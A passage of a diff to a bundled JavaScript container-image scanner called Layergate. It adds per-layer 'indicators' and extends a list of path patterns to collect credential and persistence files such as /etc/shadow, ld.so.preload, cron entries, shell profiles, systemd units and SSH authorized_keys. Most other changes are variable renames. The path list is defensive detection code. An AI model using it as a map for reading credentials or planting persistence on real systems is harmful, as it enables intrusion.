       at3 < start ? Buffer.concat([this.#tail.subarray(at3 - from), chunk]) : chunk.subarray(at3 - start),
       last
@@ -57283,8 +58195,9 @@ var Content = class _Content {
       if (busy !== null) return busy.then(() => this.end() ?? void 0);
     }
     this.program = this.#scan.program;
-    for (const match2 of this.#scan.matches)
-      this.#own.push({ ...match2, inside: this.#inside.length === 0 ? null : this.#inside.join("!/") });
+    const inside = this.#inside.length === 0 ? null : this.#inside.join("!/");
+    for (const match2 of this.#scan.matches) this.#own.push({ ...match2, inside });
+    for (const sign3 of this.#scan.indicators) this.indicators.push({ ...sign3, inside });
     if (this.#scan.dropped.size > 0) this.#skip(this.where, leftOut(this.#scan.dropped));
     if (this.#scan.isLong)
       this.#skip(this.where, "only its first 8 MiB were read as the kind of file that its name tells");
@@ -57337,6 +58250,7 @@ var Content = class _Content {
       ),
       done: (content) => {
         for (const match2 of content.matches) this.#nested.push(match2);
+        if (this.indicators.length < MAX_INDICATORS) this.indicators.push(...content.indicators);
       }
     };
   }
@@ -57492,7 +58406,14 @@ var COLLECTED = [
   /^\/etc\/(?:passwd|group|os-release)$/,
   /^\/usr\/lib\/os-release$/,
   // Who may become root.
-  /^\/etc\/sudoers(?:\.d\/[^/]+)?$/
+  /^\/etc\/sudoers(?:\.d\/[^/]+)?$/,
+  // Who logs in, and what is loaded or runs by itself.
+  /^\/etc\/(?:shadow|ld\.so\.preload|crontab|rc\.local|profile|bash\.bashrc)$/,
+  /^\/etc\/(?:cron\.(?:d|hourly|daily|weekly|monthly)|crontabs|profile\.d|init\.d|local\.d|supervisor\/conf\.d|rc\.d)\/[^/]+$/,
+  /^\/etc\/periodic\/[^/]+\/[^/]+$|^\/var\/spool\/cron\/(?:crontabs\/)?[^/]+$/,
+  /^\/(?:etc|usr\/lib|lib)\/systemd\/system\/[^/]+\.(?:service|timer)$/,
+  /^\/(?:root|home\/[^/]+)\/\.(?:bashrc|bash_profile|bash_login|profile|zshrc|zprofile)$/,
+  /\/\.ssh\/authorized_keys2?$|^\/etc\/(?:ssh|dropbear)\/authorized_keys/
 ];
 function collectorOf(path26) {
   if (COLLECTED.some((pattern) => pattern.test(path26))) return "extract";
@@ -57612,7 +58533,7 @@ var PackedPieces = class {
 };
 var MIN_WIDE = 32;
 var mayBeWide2 = (bytes2) => bytes2.length >= MIN_WIDE && bytes2.reduce((zeros, byte) => zeros + Number(byte === 0), 0) * 3 >= bytes2.length;
-var mayBePacked2 = (bytes2) => packingOf(bytes2.subarray(0, HEAD), "") !== null || SIGN_BYTES.some((sign2) => bytes2.includes(sign2, 0, "latin1"));
+var mayBePacked2 = (bytes2) => packingOf(bytes2.subarray(0, HEAD), "") !== null || SIGN_BYTES.some((sign3) => bytes2.includes(sign3, 0, "latin1"));
 var SIGN_BYTES = Object.keys(SIGNS);
 
 // src/layer/header-text.ts
@@ -57964,6 +58885,7 @@ function tarError(error2, label) {
     { cause: error2 }
   );
 }
+var MAX_INDICATORS2 = 5e3;
 var LayerReading = class {
   #scanner;
   #label;
@@ -57971,6 +58893,7 @@ var LayerReading = class {
   #budget;
   #entries = [];
   #matches = [];
+  #indicators = [];
   #hashes = /* @__PURE__ */ new Map();
   #extracts = [];
   #extractBytes = 0;
@@ -57999,6 +58922,7 @@ var LayerReading = class {
       size,
       entries: this.#entries,
       matches: this.#matches,
+      indicators: this.#indicators,
       hashes: [...this.#hashes],
       records: [...readLayerRecords(this.#databases, this.#notedPaths(), this.#limits.records, this.#label)],
       installed: [...findInstalled(this.#entries, this.#noted, this.#manifests)],
@@ -58091,6 +59015,11 @@ var LayerReading = class {
         if (matches3.length > 0) {
           for (const match2 of matches3) this.#matches.push({ ...match2, entry: index });
           this.#noted.add(index);
+        }
+        if (content.indicators.length > 0) {
+          this.#noted.add(index);
+          for (const sign3 of content.indicators)
+            if (this.#indicators.length < MAX_INDICATORS2) this.#indicators.push({ ...sign3, entry: index });
         }
         if (guarded.size <= MAX_KEPT3 && this.#noted.has(index)) this.#hashes.set(index, hashesOf(pieces3));
         if (content.program !== null && this.#programs.get(index) === "elf") this.#programs.set(index, content.program);
@@ -59153,6 +60082,7 @@ async function learn(image, build3, { layers, others }, bounded3, options5) {
     filesystem,
     collected,
     programs: findPrograms(filesystem, layers),
+    isVouched: (layer, path26) => vouching.vouchesFor(layer, path26),
     skipped: [
       ...layers.flatMap(
         ({ skipped }, layer) => skipped.flatMap((part3) => vouching.vouchesFor(layer, part3.path) ? [] : [{ layer, ...part3 }])
@@ -60767,10 +61697,10 @@ function readComment(text5) {
   const expires = until?.[1]?.replace(/(?<![.,;)])[.,;)]+$/, "") ?? null;
   const reason = rest.replace(until?.[0] ?? "", "").replace(/^(?:reason=|[-\u2013\u2014:\s(])+|(?<![\s(])[\s(]+$/g, "").trim();
   const ids = names2.split(",").filter((id) => id !== "");
-  const unknown2 = ids.find((id) => !RULES.some(({ meta: meta31 }) => meta31.id === id));
+  const unknown2 = ids.find((id) => !RULES.some(({ meta: meta42 }) => meta42.id === id));
   const near = unknown2 === void 0 ? null : nearest(
     unknown2,
-    RULES.map(({ meta: meta31 }) => meta31.id)
+    RULES.map(({ meta: meta42 }) => meta42.id)
   );
   const problem = ids.length === 0 ? "names no rule" : unknown2 !== void 0 ? `names ${JSON.stringify(unknown2)}, which is no rule${near === null ? "" : ` (did you mean ${near}?)`}` : expires !== null && !isDate(expires) ? `has ${JSON.stringify(expires)} where a day is due (until YYYY-MM-DD)` : detectorProblem(detector) ?? (reason.length < 3 ? "gives no reason" : null);
   return {
@@ -60857,7 +61787,7 @@ function textOf3(lines, startLine, endLine, isBase) {
     (line2) => isBase || !/^FROM /i.test(line2) ? line2 : line2.replace(/^(FROM (?:--\S+ )*[^\s:@]+(?::\d+\/[^\s:@]+)?)\S*/i, "$1")
   ).join("\n");
 }
-var isOnSecrets = (rule) => RULES.some(({ meta: meta31 }) => meta31.id === rule && meta31.kind === "secret");
+var isOnSecrets = (rule) => RULES.some(({ meta: meta42 }) => meta42.id === rule && meta42.kind === "secret");
 var isTooWide = ({ rule, inImage, detector, startLine }, dockerfile) => inImage === null && detector === null && isOnSecrets(rule) && dockerfile.stages.some(
   ({ instructions }) => instructions.some(
     (each2) => each2.startLine <= startLine && startLine <= each2.endLine && /^(?:COPY|ADD)$/i.test(each2.keyword)
@@ -61012,8 +61942,8 @@ function judge(rules2, drafts, evidence, { policy, inline, pending, baseline: ba
       ...inlineWarnings(inline, rules2, policy, used, evidence.now)
     ],
     record: shown2.flatMap((finding) => record2.get(finding) ?? []),
-    fixed: comparison?.fixed((id) => policy.rules[id]?.enabled === true && rules2.some(({ meta: meta31 }) => meta31.id === id)) ?? [],
-    passed: rules2.map(({ meta: meta31 }) => meta31.id).filter((id) => policy.rules[id]?.enabled === true && !found.has(id))
+    fixed: comparison?.fixed((id) => policy.rules[id]?.enabled === true && rules2.some(({ meta: meta42 }) => meta42.id === id)) ?? [],
+    passed: rules2.map(({ meta: meta42 }) => meta42.id).filter((id) => policy.rules[id]?.enabled === true && !found.has(id))
   };
 }
 function leadOf(judged3) {
@@ -61115,16 +62045,16 @@ function inlineWarnings(inline, rules2, policy, used, now) {
           message: `${where} expired on ${ignore2.expires}: it no longer hides anything (\u201C${ignore2.reason}\u201D).`
         }
       ];
-    const isRun = rules2.some(({ meta: meta31 }) => meta31.id === ignore2.rule) && policy.rules[ignore2.rule]?.enabled === true;
+    const isRun = rules2.some(({ meta: meta42 }) => meta42.id === ignore2.rule) && policy.rules[ignore2.rule]?.enabled === true;
     return ignore2.isForeign || !isRun || usedComments.has(keyOf6(ignore2)) ? [] : [{ code: "unused-ignore", message: `${where} matched nothing: remove it (\u201C${ignore2.reason}\u201D).` }];
   });
 }
 
 // src/rules/check.ts
 function* check(rules2, evidence, settings2) {
-  for (const { meta: meta31, check: run20 } of rules2) {
-    const setting2 = settings2[meta31.id];
-    if (setting2 === void 0 || !setting2.enabled && meta31.kind === "rule") continue;
+  for (const { meta: meta42, check: run20 } of rules2) {
+    const setting2 = settings2[meta42.id];
+    if (setting2 === void 0 || !setting2.enabled && meta42.kind === "rule") continue;
     yield* run20(evidence, setting2.options);
   }
 }
@@ -63014,7 +63944,7 @@ function renderQuiet({
 }
 
 // src/cli/commands/explain.ts
-var PAGES = ["../docs/rules/", "../../../docs/rules/"];
+var PAGES2 = ["../docs/rules/", "../../../docs/rules/"];
 async function run6(args, host) {
   const { values, positionals } = parseOptions("explain", args, EXPLAIN_OPTIONS);
   const [id, source2, extra] = positionals;
@@ -63041,19 +63971,19 @@ function pageOf(id) {
       );
     const near = nearest(
       id,
-      RULES.map(({ meta: meta32 }) => meta32.id)
+      RULES.map(({ meta: meta43 }) => meta43.id)
     );
     throw new UsageError(
       `There is no rule ${JSON.stringify(id)}.${near === null ? "" : ` Did you mean ${near}?`} layergate rules lists them.`
     );
   }
-  const { meta: meta31 } = rule;
-  const page = PAGES.map((folder) => new URL(`${folder}${meta31.id}.md`, import.meta.url)).find((url2) => existsSync(url2));
-  const text5 = page === void 0 ? `${meta31.title}
+  const { meta: meta42 } = rule;
+  const page = PAGES2.map((folder) => new URL(`${folder}${meta42.id}.md`, import.meta.url)).find((url2) => existsSync(url2));
+  const text5 = page === void 0 ? `${meta42.title}
 
-${meta31.description}
+${meta42.description}
 
-${meta31.remedy}` : readFileSync(page, "utf8").trim();
+${meta42.remedy}` : readFileSync(page, "utf8").trim();
   return `${text5}
 `;
 }
@@ -64262,14 +65192,14 @@ var mapAt = (map, key) => {
   const node2 = map?.get(key, true);
   return (0, import_yaml2.isMap)(node2) ? node2 : null;
 };
-function stepsOf2({ node: node2, lines, lineOf: lineOf2 }) {
+function stepsOf2({ node: node2, lines, lineOf: lineOf3 }) {
   const steps = node2.get("steps", true);
   if (!(0, import_yaml2.isSeq)(steps) || steps.flow === true) return [];
   return steps.items.flatMap((item2) => {
     if (!(0, import_yaml2.isMap)(item2) || item2.range == null) return [];
-    let start = lineOf2(item2.range[0]);
+    let start = lineOf3(item2.range[0]);
     while (start > 0 && !/^\s*-/.test(lines[start] ?? "")) start--;
-    let end2 = lineOf2(item2.range[1] - 1) + 1;
+    let end2 = lineOf3(item2.range[1] - 1) + 1;
     while (end2 > start + 1 && /^\s*(?:#.*)?$/.test(lines[end2 - 1] ?? "")) end2--;
     return [{ node: item2, start, end: end2, indent: /^\s*/.exec(lines[start] ?? "")?.[0] ?? "" }];
   });
@@ -64282,10 +65212,10 @@ function parseWorkflow(file, text5) {
   if (errors.length > 0 || !(0, import_yaml2.isMap)(contents)) return null;
   const workflow = contents;
   const lines = text5.split("\n");
-  const lineOf2 = (offset) => counter.linePos(offset).line - 1;
+  const lineOf3 = (offset) => counter.linePos(offset).line - 1;
   const jobs = (mapAt(workflow, "jobs")?.items ?? []).flatMap((pair2) => {
     const { key, value } = pair2;
-    return (0, import_yaml2.isMap)(value) ? [{ file, name: String(key), node: value, workflow, lines, lineOf: lineOf2 }] : [];
+    return (0, import_yaml2.isMap)(value) ? [{ file, name: String(key), node: value, workflow, lines, lineOf: lineOf3 }] : [];
   });
   return { workflow, jobs };
 }
@@ -65469,14 +66399,14 @@ function extractValue(ctx, end2) {
   }
   return parseNumber(ctx, ctx.p, c, 0, end2);
 }
-function parseNumber(ctx, startPtr, startChr, sign2, endChr) {
+function parseNumber(ctx, startPtr, startChr, sign3, endChr) {
   let c = startChr;
   let state = 0;
   let hasUnderscores = false;
   if (c === 105) {
     if (ctx.s.charCodeAt(++ctx.p) !== 110 || ctx.s.charCodeAt(++ctx.p) !== 102)
       TomlError.x("invalid value", ctx, startPtr);
-    return ctx.p++, (sign2 || 1) / 0;
+    return ctx.p++, (sign3 || 1) / 0;
   }
   if (c === 110) {
     if (ctx.s.charCodeAt(++ctx.p) !== 97 || ctx.s.charCodeAt(++ctx.p) !== 110)
@@ -65486,7 +66416,7 @@ function parseNumber(ctx, startPtr, startChr, sign2, endChr) {
   if (c === 48) {
     if (++ctx.p >= ctx.s.length || isEndOfValue(c = ctx.s.charCodeAt(ctx.p), endChr))
       return ctx.bi === true ? 0n : 0;
-    if (!sign2) {
+    if (!sign3) {
       if (c === 120)
         return parseIntegerBaseN(ctx, startPtr, 16, endChr);
       else if (c === 98)
@@ -65524,7 +66454,7 @@ function parseNumber(ctx, startPtr, startChr, sign2, endChr) {
       state++;
   }
   if (!state) {
-    let val = (startChr - 48) * (sign2 || 1);
+    let val = (startChr - 48) * (sign3 || 1);
     return ctx.bi === true ? BigInt(val) : val;
   }
   if (!(state & 1))
@@ -65780,9 +66710,9 @@ function parseArray(ctx) {
 }
 
 // node_modules/smol-toml/dist/parse.js
-function peekTable(ctx, key, table, meta31, type) {
+function peekTable(ctx, key, table, meta42, type) {
   let t = table;
-  let m = meta31;
+  let m = meta42;
   let k;
   let hasOwn = false;
   let state;
@@ -65856,11 +66786,11 @@ function parse5(toml, options5 = {}) {
     uk: options5.unsafeKeyBehaviour === "throw" ? 2 : options5.unsafeKeyBehaviour === "drop" ? 1 : 0
   };
   let res = /* @__PURE__ */ Object.create(null);
-  let meta31 = /* @__PURE__ */ Object.create(null);
+  let meta42 = /* @__PURE__ */ Object.create(null);
   let tmp;
   let skipping = false;
   let tbl = res;
-  let m = meta31;
+  let m = meta42;
   if (toml.charCodeAt(0) === 65279)
     ctx.p++;
   skipVoid(ctx);
@@ -65884,7 +66814,7 @@ function parse5(toml, options5 = {}) {
         ctx,
         k,
         res,
-        meta31,
+        meta42,
         isTableArray ? 2 : 1
         /* Type.EXPLICIT */
       );
@@ -66859,7 +67789,7 @@ function toResult(finding, files2) {
   const start = finding.dockerfile === null ? "line not known: " : finding.dockerfile.changed === true ? `line ${finding.dockerfile.startLine} of the Dockerfile as it was built: ` : "";
   return {
     ruleId: finding.ruleId,
-    ruleIndex: RULES.findIndex(({ meta: meta31 }) => meta31.id === finding.ruleId),
+    ruleIndex: RULES.findIndex(({ meta: meta42 }) => meta42.id === finding.ruleId),
     level: LEVELS[finding.severity],
     message: {
       text: `${start}${visible(finding.message)}${links.length === 0 ? "" : ` See: ${links.join(", ")}.`} ${visible(finding.remedy)}`
@@ -66899,25 +67829,25 @@ function renderRun({ id, results, warnings, properties }) {
             name: "Layergate",
             semanticVersion: VERSION,
             informationUri: HOME2,
-            rules: RULES.map(({ meta: meta31 }) => ({
-              id: meta31.id,
-              name: meta31.id.replace(/(?:^|-)(\w)/g, (_, letter) => letter.toUpperCase()),
-              shortDescription: { text: meta31.title },
-              fullDescription: { text: meta31.description },
+            rules: RULES.map(({ meta: meta42 }) => ({
+              id: meta42.id,
+              name: meta42.id.replace(/(?:^|-)(\w)/g, (_, letter) => letter.toUpperCase()),
+              shortDescription: { text: meta42.title },
+              fullDescription: { text: meta42.description },
               help: {
-                text: `${meta31.description} ${meta31.remedy}`,
-                markdown: `${meta31.description}
+                text: `${meta42.description} ${meta42.remedy}`,
+                markdown: `${meta42.description}
 
-**What to do:** ${meta31.remedy}
+**What to do:** ${meta42.remedy}
 
-${meta31.references.map(({ name: name2, url: url2 }) => `- [${name2}](${url2})`).join("\n")}`
+${meta42.references.map(({ name: name2, url: url2 }) => `- [${name2}](${url2})`).join("\n")}`
               },
-              helpUri: `${HOME2}/blob/main/docs/rules/${meta31.id}.md`,
-              defaultConfiguration: { level: LEVELS[meta31.severity] },
+              helpUri: `${HOME2}/blob/main/docs/rules/${meta42.id}.md`,
+              defaultConfiguration: { level: LEVELS[meta42.severity] },
               properties: {
-                "security-severity": SECURITY_SEVERITY[meta31.severity],
-                precision: meta31.confidence === "high" ? "high" : "medium",
-                tags: ["security", "container", meta31.kind === "secret" ? "secret" : "hardening"]
+                "security-severity": SECURITY_SEVERITY[meta42.severity],
+                precision: meta42.confidence === "high" ? "high" : "medium",
+                tags: ["security", "container", meta42.kind === "secret" ? "secret" : "hardening"]
               }
             }))
           }
@@ -67104,9 +68034,9 @@ var recover = {
 // src/cli/commands/rules.ts
 async function run16(args) {
   noArguments("rules", args);
-  const width2 = Math.max(...RULES.map(({ meta: meta31 }) => meta31.id.length));
+  const width2 = Math.max(...RULES.map(({ meta: meta42 }) => meta42.id.length));
   const lines = RULES.map(
-    ({ meta: meta31 }) => `${meta31.id.padEnd(width2)}  ${(meta31.enabled ? meta31.severity : "off").padEnd(8)}  ${meta31.title}
+    ({ meta: meta42 }) => `${meta42.id.padEnd(width2)}  ${(meta42.enabled ? meta42.severity : "off").padEnd(8)}  ${meta42.title}
 `
   );
   await print(`${"rule".padEnd(width2)}  severity  title
